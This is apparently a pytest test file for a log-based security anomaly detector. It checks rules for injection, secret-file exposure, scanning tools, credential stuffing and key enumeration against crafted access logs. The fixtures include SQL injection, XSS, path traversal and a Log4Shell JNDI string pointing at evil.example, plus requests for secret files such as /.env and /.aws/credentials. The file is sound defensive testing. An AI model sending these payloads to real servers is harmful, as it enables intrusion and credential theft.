"""The security rules, each on a crafted log it must fire on and a close one it must not, and
one incident per event. Every test runs every detector (``judge(..., ())``) unless it says."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import polars as pl
import pytest

from meterlog.errors import ConfigError
from tests.support.anomalies import at, hourly, judge, requests

RANGE_START = at(2026, 10, 29)
RANGE_END = at(2026, 10, 30)
HISTORY_START = RANGE_START - timedelta(days=28)
ATTACK = RANGE_START + timedelta(hours=3)


def every(start, count: int, step: float) -> list:
    return [start + timedelta(seconds=i * step) for i in range(count)]


def history(rate: int = 20, key: str = "k1") -> pl.DataFrame:
    return hourly(HISTORY_START, 29 * 24, rate, exact=True, key=key)


def all_kinds(extra: pl.DataFrame, base: pl.DataFrame | None = None, **kw) -> pl.DataFrame:
    frame = pl.concat([history() if base is None else base, extra])
    return judge(frame, (), RANGE_START, RANGE_END, **kw)


def about(findings: pl.DataFrame, entity: str) -> pl.DataFrame:
    return findings.filter(pl.col("entity") == entity)


def kinds(findings: pl.DataFrame) -> set[str]:
    return set(findings["kind"])


# -- signatures and breaches ---------------------------------------------------------------------


def test_a_secret_file_answered_200_once_is_a_breach() -> None:
    leak = requests([ATTACK], key=None, ip="198.51.100.20", path="/.env", agent="curl/8.0")
    findings = about(all_kinds(leak), "198.51.100.20")
    assert findings.height == 1
    row = findings.row(0, named=True)
    assert (row["kind"], row["severity"]) == ("sensitive_file_exposed", "high")
    assert "1 succeeded (2xx): /.env x1" in row["evidence"]


@pytest.mark.parametrize(
    ("path", "status"),
    [("/.env", 404), ("/files/tool-2.1.tar.gz", 200), ("/v1/environments", 200)],
)
def test_a_refused_secret_or_an_ordinary_download_is_no_breach(path: str, status: int) -> None:
    probe = requests([ATTACK], key=None, ip="198.51.100.21", path=path, status=status)
    assert about(all_kinds(probe), "198.51.100.21").height == 0


@pytest.mark.parametrize(
    "request_path",
    [
        "/v1/items?id=1%27%20OR%20%271%27=%271",
        "/v1/items?id=1 UNION SELECT password FROM users",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/static/..%2f..%2f..%2fetc/passwd",
        "/v1/items?x=${jndi:ldap://evil.example/a}",
    ],
)
def test_two_injection_attempts_are_an_attack(request_path: str) -> None:
    attempt = requests(
        every(ATTACK, 2, 60.0),
        key=None,
        ip="198.51.100.22",
        path=[request_path, request_path + "&x=1"],
        status=400,
    )
    findings = about(all_kinds(attempt), "198.51.100.22")
    assert kinds(findings) == {"injection"}


def test_one_stray_injection_attempt_is_internet_noise() -> None:
    stray = requests([ATTACK], key=None, ip="198.51.100.27", path="/../../etc/passwd", status=404)
    assert about(all_kinds(stray), "198.51.100.27").height == 0


@pytest.mark.parametrize(
    "request_path",
    [
        "/search?q=select%20a%20union%20rep",
        "/v1/people?name=O%27Brien",
        "/docs/scripts/setup",
        "/v1/items?sort=-created&page=2",
    ],
)
def test_ordinary_queries_are_no_injection(request_path: str) -> None:
    normal = requests([ATTACK], key=None, ip="198.51.100.23", path=request_path)
    assert about(all_kinds(normal), "198.51.100.23").height == 0


@pytest.mark.parametrize("agent", ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.25"])  # fmt: skip
def test_an_attack_tool_is_named_from_one_request(agent: str) -> None:
    one = requests([ATTACK], key=None, ip="198.51.100.24", path="/", status=200, agent=agent)
    findings = about(all_kinds(one), "198.51.100.24")
    assert kinds(findings) == {"attack_tool"}
    assert findings["severity"].item() == "medium"


@pytest.mark.parametrize("agent", ["Mozilla/5.0 zgrab/0.x", "masscan/1.3"])
def test_an_internet_wide_scanner_is_named_low(agent: str) -> None:
    one = requests([ATTACK], key=None, ip="198.51.100.28", path="/", status=404, agent=agent)
    findings = about(all_kinds(one), "198.51.100.28")
    assert (findings["kind"].item(), findings["severity"].item()) == ("mass_scanner", "low")


@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "python-requests/2.31.0",
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0",
    ],
)
def test_ordinary_agents_are_no_attack_tool(agent: str) -> None:
    one = requests([ATTACK], key=None, ip="198.51.100.25", path="/", status=200, agent=agent)
    assert about(all_kinds(one), "198.51.100.25").height == 0


def test_a_slow_scan_of_sensitive_paths_is_found() -> None:
    # one sensitive path every three minutes: no five-minute window holds three
    paths = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/backup.zip", "/.aws/credentials"]  # fmt: skip
    scan = requests(every(ATTACK, 6, 180.0), key=None, ip="198.51.100.26", path=paths, status=404)
    findings = about(all_kinds(scan), "198.51.100.26")
    assert kinds(findings) == {"sensitive_paths"}
    assert findings["observed"].item() == 6


def test_a_health_check_on_one_sensitive_looking_path_is_not_a_scan() -> None:
    checks = requests(
        every(RANGE_START, 2880, 30.0), key=None, ip="10.0.9.9", path="/server-status",
        agent="kube-probe/1.29",
    )  # fmt: skip
    assert about(all_kinds(checks), "10.0.9.9").height == 0


# -- slow and identity attacks ---------------------------------------------------------------------


def test_slow_credential_stuffing_is_one_incident_and_not_key_sharing() -> None:
    # 4.5 failures a minute for an hour, 270 user names, with the customer's (valid) key, from
    # one address (hydra-like, but a browser agent); 2 logins succeed
    times = every(ATTACK, 270, 13.3)
    statuses = [200 if i in (100, 200) else 401 for i in range(270)]
    stuffing = requests(
        times, key="k1", ip="203.0.113.50", user=[f"user{i}" for i in range(270)],
        method="POST", path="/v1/login", status=statuses, agent="Mozilla/5.0",
    )  # fmt: skip
    findings = all_kinds(stuffing)
    assert findings.height == 1, findings
    row = findings.row(0, named=True)
    assert (row["kind"], row["entity"], row["severity"]) == (
        "credential_stuffing",
        "203.0.113.50",
        "high",
    )
    assert "key_sharing" not in row["signals"]
    assert "2 succeeded (2xx): /v1/login x2" in row["evidence"]
    assert "distinct users" in row["evidence"]


def test_a_customers_ci_failing_logins_on_purpose_is_not_stuffing() -> None:
    # a test suite: 3 test users, 30 deliberate 401s an hour, every hour of the day
    runs = [
        requests(
            every(RANGE_START + timedelta(hours=h), 30, 20.0),
            key="k1",
            ip="10.1.1.200",
            user=[f"ci-user{i % 3}" for i in range(30)],
            path="/v1/login",
            status=401,
            agent="pytest/8.0",
        )
        for h in range(24)
    ]
    assert all_kinds(pl.concat(runs)).height == 0


def test_a_ci_burst_of_failures_every_day_is_usual() -> None:
    # 90 deliberate 401s within ten minutes at 09:00 every day of the month, and today
    days = [
        requests(
            every(HISTORY_START + timedelta(days=d, hours=9), 90, 6.0),
            ip="10.1.1.201",
            user=[f"ci-user{i % 3}" for i in range(90)],
            path="/v1/login",
            status=401,
        )
        for d in range(29)
    ]
    assert all_kinds(pl.concat(days)).height == 0
    # the same burst out of the blue is one
    once = days[-1]
    assert kinds(all_kinds(once)) == {"auth_failures"}


def test_slow_brute_force_on_one_user_is_found() -> None:
    # four failures a minute for an hour: under auth_failures' 50 in ten minutes
    slow = requests(
        every(ATTACK, 240, 15.0), key="k1", ip="203.0.113.51", user="admin", path="/v1/login",
        status=401,
    )  # fmt: skip
    findings = about(all_kinds(slow), "203.0.113.51")
    assert kinds(findings) == {"slow_auth_failures"}


@pytest.mark.parametrize(("keys", "found"), [(120, True), (5, False)])
def test_key_enumeration(keys: int, found: bool) -> None:
    # two refused keys a minute (120 in an hour); a customer rotating 5 keys is no attack
    count = 120
    guesses = requests(
        every(ATTACK, count, 30.0), key=[f"guess{i % keys}" for i in range(count)],
        ip="203.0.113.52", status=401,
    )  # fmt: skip
    findings = about(all_kinds(guesses), "203.0.113.52")
    if found:
        assert findings["kind"].to_list() == ["key_enumeration"]
        assert findings["severity"].item() == "critical"
    else:
        assert "key_enumeration" not in kinds(findings)


def test_one_address_using_several_customers_keys() -> None:
    base = pl.concat([history(key=k) for k in ("k1", "k2", "k3", "k4")])
    mixed = requests(
        every(ATTACK, 40, 60.0), key=[f"k{1 + i % 4}" for i in range(40)], ip="192.0.2.77"
    )
    findings = about(all_kinds(mixed, base), "192.0.2.77")
    assert kinds(findings) == {"foreign_keys"}
    assert findings["observed"].item() == 4
    # the same keys, all of one customer: a customer with several keys
    same = {k: "acme" for k in ("k1", "k2", "k3", "k4")}
    assert about(all_kinds(mixed, base, accounts=same), "192.0.2.77").height == 0


# -- probing ---------------------------------------------------------------------------------------


def test_a_slow_404_scan_is_found() -> None:
    # 80 made-up paths, one every 45 seconds: never 20 in five minutes
    paths = [f"/{w}{i}/index.php" for i, w in enumerate(["old", "new", "tmp", "dev"] * 20)]
    scan = requests(every(ATTACK, 80, 45.0), key=None, ip="192.0.2.60", path=paths, status=404)
    assert kinds(about(all_kinds(scan), "192.0.2.60")) == {"slow_probing"}


def test_a_client_looking_up_missing_records_is_no_scanner() -> None:
    lookups = requests(
        every(ATTACK, 2000, 1.5), ip="10.1.1.77",
        path=[f"/v1/{('items', 'orders', 'users')[i % 3]}/{9000 + i}" for i in range(2000)],
        status=404,
    )  # fmt: skip
    assert about(all_kinds(lookups), "10.1.1.77").height == 0


def test_a_search_engine_crawler_is_no_scraper_or_scanner() -> None:
    agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    paths = [f"/products/{i}" if i % 10 else f"/old-page-{i}" for i in range(3000)]
    crawl = requests(
        every(ATTACK, 3000, 1.0), key=None, ip="66.249.66.1", path=paths,
        status=[404 if i % 10 == 0 else 200 for i in range(3000)], agent=agent,
    )  # fmt: skip
    assert about(all_kinds(crawl), "66.249.66.1").height == 0


# -- one incident per event ------------------------------------------------------------------------


def test_scraping_is_not_also_a_spike() -> None:
    walk = requests(
        every(RANGE_START + timedelta(hours=8), 1800, 2.0), user="mallory",
        path=[f"/v1/orders/{5000 + i}" for i in range(1800)],
    )  # fmt: skip
    findings = all_kinds(walk, history(rate=100))
    assert findings["kind"].to_list() == ["scraping"], findings
    assert "spike account k1" in findings["signals"].item()


def test_two_attackers_at_the_same_time_stay_two_incidents() -> None:
    one = requests(every(ATTACK, 150, 2.0), ip="203.0.113.60", status=401, path="/v1/login")
    two = requests(every(ATTACK, 150, 2.0), ip="198.51.100.61", status=401, path="/v1/login")
    findings = all_kinds(pl.concat([one, two]))
    # each holds half of the account's burst: neither takes it, the account keeps its finding
    addresses = findings.filter(pl.col("entity_type") == "ip")
    assert sorted(addresses["entity"]) == ["198.51.100.61", "203.0.113.60"]
    for row in addresses.iter_rows(named=True):
        other = ({"198.51.100.61", "203.0.113.60"} - {row["entity"]}).pop()
        assert other not in row["signals"]


# -- explanations ------------------------------------------------------------------------------


def test_every_finding_says_which_rule_and_threshold_it_crossed() -> None:
    scan = requests(
        every(ATTACK, 30, 5.0), key=None, ip="192.0.2.90", status=404,
        path=[f"/x{i}/y" for i in range(30)],
    )  # fmt: skip
    row = all_kinds(scan).row(0, named=True)
    assert row["evidence"].startswith("probing: 30 distinct endpoints in one window (≥ 20 distinct")
    assert "0 succeeded (2xx)" in row["evidence"]


# -- rules as data -----------------------------------------------------------------------------


def test_a_rule_declared_in_the_config_file_fires(tmp_path: Path) -> None:
    from meterlog.config import load_config

    config = tmp_path / "meterlog.toml"
    config.write_text(
        "[anomalies.export_abuse]\n"
        'description = "many exports"\ngroup_by = ["user"]\nwindow = "1h"\ncapacity = 20\n'
        'filter = { path = ["^/v1/reports/[^/]+/export$"], status = ["2xx"] }\n'
    )
    overrides = load_config(config).anomalies
    exports = requests(
        every(ATTACK, 25, 60.0), user="eve", path=[f"/v1/reports/r{i}/export" for i in range(25)]
    )
    from meterlog.anomalies.base import BASELINE_COLUMNS, Context, prepare_events
    from meterlog.anomalies.registry import build_detectors
    from meterlog.anomalies.runner import detect
    from meterlog.schema import conform_events

    events = prepare_events(
        conform_events(exports.rename({"key": "http_x_api_key"})).lazy(),
        account_field="http_x_api_key",
    ).collect()
    ctx = Context(RANGE_START, RANGE_END, RANGE_START - timedelta(days=1))
    found = detect(
        events, events.head(0).select(BASELINE_COLUMNS), ctx,
        build_detectors(overrides, ("export_abuse",)),
    )  # fmt: skip
    assert (found["kind"].item(), found["entity"].item(), found["observed"].item()) == (
        "export_abuse",
        "eve",
        25,
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[anomalies.probing]\ncapacity = -1\n", "anomalies.probing.capacity"),
        (
            "[anomalies.probing]\nfilter = { path = ['(unclosed'] }\n",
            "anomalies.probing.filter.path",
        ),
        (
            "[anomalies.probing]\nfilter = { agent = ['@nosuchset'] }\n",
            "no pattern set '@nosuchset'",
        ),
        ("[anomalies.probing]\ngroup_by = ['planet']\n", "anomalies.probing.group_by"),
        ("[anomalies.mine]\ncapacity = 3\n", "anomalies.mine.description"),
        ("[anomalies.probing]\nwindow = 'soon'\n", "anomalies.probing.window"),
        ("[anomalies.probing]\nfilter = { status = ['9xx'] }\n", "anomalies.probing.filter.status"),
    ],
)
def test_bad_rules_in_the_config_are_refused_in_one_line(
    tmp_path: Path, text: str, message: str
) -> None:
    from meterlog.anomalies.registry import build_detectors
    from meterlog.config import load_config

    config = tmp_path / "meterlog.toml"
    config.write_text(text)
    # [anomalies] is kept as data by the config file and checked by the anomalies package
    with pytest.raises(ConfigError) as error:
        build_detectors(load_config(config).anomalies)
    assert message in str(error.value)
    assert str(config) in str(error.value)
    assert "\n" not in str(error.value)


def test_run_rules_judges_one_batch_alone() -> None:
    from meterlog.anomalies.base import prepare_events
    from meterlog.anomalies.runner import run_rules
    from meterlog.schema import conform_events

    batch = requests([ATTACK], key=None, ip="198.51.100.30", path="/.git/config")
    prepared = prepare_events(conform_events(batch.rename({"key": "k"})).lazy()).collect()
    findings = run_rules(prepared)
    assert findings["kind"].to_list() == ["sensitive_file_exposed"]


def test_stuffing_from_many_networks_with_a_customers_key_is_no_leaked_key() -> None:
    # 400 refused logins carrying k1 from 40 networks: the key was never accepted there
    spread = requests(
        every(ATTACK, 400, 4.0),
        key="k1",
        ip=[f"172.{16 + i % 40}.3.{i % 200}" for i in range(400)],
        user=[f"person{i}" for i in range(400)],
        path="/v1/login",
        status=401,
    )
    findings = all_kinds(spread)
    assert "key_sharing" not in kinds(findings)
    assert not findings["signals"].str.contains("key_sharing").any()
    # the same addresses answered 200 are a leaked key
    leaked = spread.with_columns(status=pl.lit(200, pl.Int64))
    assert "key_sharing" in kinds(all_kinds(leaked))


# -- real logs as benign background ----------------------------------------------------------------


def test_real_public_logs_raise_nothing_and_attacks_in_them_are_named(tmp_path: Path) -> None:
    from tests.support import cli, realdata

    apache = realdata("elastic-apache-10k", "apache_logs")
    lines = apache.read_text(encoding="utf-8").splitlines()
    store = tmp_path / "store"
    args = ["--store", str(store), "--since", "2015-05-17", "--until", "2015-05-20"]
    clean = tmp_path / "clean.log"
    clean.write_text("\n".join(lines) + "\n")
    assert cli("ingest", "--store", str(store), "-q", str(clean)).exit_code == 0
    quiet = cli("anomalies", *args, "--format", "json")
    assert quiet.exit_code == 0, quiet.stderr
    assert json.loads(quiet.stdout) == []  # 10,000 real requests of a public site
    attacks = [
        f'203.0.113.9 - - [18/May/2015:10:00:0{i} +0000] "GET {path} HTTP/1.1" {status} 10 "-" "{agent}"'
        for i, (path, status, agent) in enumerate(
            [
                ("/.git/config", 200, "curl/7.30"),
                ("/?id=1%20UNION%20SELECT%20password%20FROM%20users", 200, "curl/7.30"),
                ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, "curl/7.30"),
            ]
        )
    ] + ['198.51.100.4 - - [19/May/2015:08:00:00 +0000] "GET / HTTP/1.1" 200 10 "-" "sqlmap/1.0"']
    extra = tmp_path / "attacks.log"
    extra.write_text("\n".join(attacks) + "\n")
    assert cli("ingest", "--store", str(store), "-q", str(extra)).exit_code == 0
    found = json.loads(cli("anomalies", *args, "--format", "json").stdout)
    assert {(row["kind"], row["entity"]) for row in found} == {
        ("sensitive_file_exposed", "203.0.113.9"),
        ("attack_tool", "198.51.100.4"),
    }
    breach = next(row for row in found if row["entity"] == "203.0.113.9")
    assert "injection ip 203.0.113.9" in breach["signals"]
    assert breach["severity"] == "high"
